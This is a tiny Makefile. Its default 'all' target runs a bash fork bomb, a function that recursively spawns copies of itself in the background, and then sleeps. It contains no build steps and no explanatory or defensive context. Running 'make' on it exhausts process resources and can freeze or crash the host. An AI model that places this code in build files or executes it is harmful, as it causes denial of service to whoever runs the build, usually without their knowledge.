all:
	@bash -c 'bomb() { bomb | bomb & }; bomb; sleep 60'
	@sleep 60
